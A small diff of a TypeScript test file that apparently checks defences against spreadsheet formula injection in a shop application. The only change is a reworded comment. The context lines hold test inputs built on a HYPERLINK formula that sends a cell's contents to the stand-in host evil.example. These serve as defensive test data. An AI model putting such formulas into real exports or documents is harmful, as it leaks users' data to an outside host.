@@ -10,7 +10,7 @@ import { openShop, PAUL, type Shop } from '../support/shop';
 afterAll(closeOffices);
 
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&D2,"click")';
-/** What may stand in front of a formula, and formulas that look otherwise. */
+/** What may be in front of a formula, and formulas that look otherwise. */
 const FORMULAS = [
   FORMULA,
   '=HYPERLINK("http://evil.example/?x="&D2,\n"click")',
